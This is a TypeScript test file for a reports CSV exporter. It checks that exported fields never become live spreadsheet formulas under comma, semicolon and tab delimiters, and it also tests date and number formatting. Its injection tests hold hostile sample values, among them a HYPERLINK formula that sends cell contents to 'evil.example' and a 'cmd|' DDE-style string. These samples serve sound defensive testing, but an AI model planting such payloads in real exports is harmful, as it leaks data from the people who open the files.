import { array, assert, constantFrom, property, string } from 'fast-check';
import { read } from '@e965/xlsx';
import { describe, expect, test } from 'vitest';
import {
  csvForm,
  csvRow as csvRowIn,
  csvTime,
  type CsvValue,
} from '../../../../components/reports/export/csv-row.ts';
import { dividers, openInSpreadsheet } from './spreadsheet.ts';

const open = (text: string, divider: (typeof dividers)[number]) =>
  openInSpreadsheet(new TextEncoder().encode(`\uFEFF${text}`), divider);
const formula = 'HYPERLINK("https://evil.example?"&A1,"x")';

const english = csvForm('en');
const german = csvForm('de');
describe.each(
  [english, german].flatMap((form) => dividers.map((divider) => [divider, form] as const)),
)('a spreadsheet that divides by %j, with a file in the form %j', (divider, form) => {
  const csvRow = (values: CsvValue[]) => csvRowIn(values, form);

  test.each([
    `=${formula}`,
    `a;=${formula}`,
    `a\t=${formula}`,
    `a\r\n=${formula}`,
    `a;";=${formula}`,
    `a;"=${formula}`,
    `a;""=${formula}`,
    `";=${formula}`,
    `a; \u200B+1+1;\u00A0-1`,
    `a;\t;@SUM(A1)`,
    `\t=${formula}`,
    `a,=${formula}`,
    ';=1+1',
    ',=1+1',
    '"=1+1',
    '+1',
    'a\n-1+cmd|A1',
  ])('runs nothing of %j', (text) => {
    for (const row of [[text], ['1', text, 'b'], ['1', 'a;', text], ['1', text, text]])
      expect(
        open(csvRow(['id', 'url']) + csvRow(row) + csvRow(['2', 'b']), divider).formulas,
      ).toEqual([]);
  });

  test('runs nothing, whatever a service sends', () => {
    const text = string({
      unit: constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '"',
        "'",
        ',',
        ';',
        ' ',
        '\u200B',
        '\u00A0',
        'a',
        '1',
      ),
    });
    assert(
      property(array(text, { minLength: 1, maxLength: 4 }), (values) => {
        expect(open(csvRow(['id']) + csvRow(values) + csvRow(values), divider).formulas).toEqual(
          [],
        );
      }),
      { numRuns: 500 },
    );
  });
});

const csvRow = (values: CsvValue[]) => csvRowIn(values, english);

test('A spreadsheet takes a time for a date and a fraction for a number, in the form of its language', () => {
  const at = new Date(2026, 10, 28, 14, 5).getTime();
  expect(csvTime(at)).toBe('2026-11-28 14:05:00');
  expect(csvTime(null)).toBeNull();
  expect(csvRowIn(['a', csvTime(at), 68.5], english)).toBe('a,2026-11-28 14:05:00,68.5\r\n');
  expect(csvRowIn(['a', csvTime(at), 68.5], german)).toBe('a;2026-11-28 14:05:00;68,5\r\n');
  const { Sheets } = read(csvRow([csvTime(at), 68.5]), { type: 'string', FS: ',' });
  expect(Object.values(Sheets)[0]).toMatchObject({
    A1: { t: 'n', w: expect.stringContaining('14:05') },
    B1: { t: 'n', v: 68.5 },
  });
});

test('A spreadsheet that divides by commas shows each text as the service sent it', () => {
  const values = [
    'a,b',
    'a;b',
    'say "x"',
    'https://example.com/?a=1&b=-2;c',
    'one\ntwo',
    'é',
    'a\tb',
  ];
  expect(open(csvRow(values), ',').rows).toEqual([values]);
});

test.each([1_000, 10_000, 100_000])(
  'A field of %d characters that nearly begins a formula is written in no time worth telling',
  (length) => {
    for (const unit of [' ', ';', '"', '=', '\u200B', ';=', 'a;'])
      expect(csvRow([unit.repeat(length / unit.length)]).length).toBeGreaterThan(length / 2);
  },
);
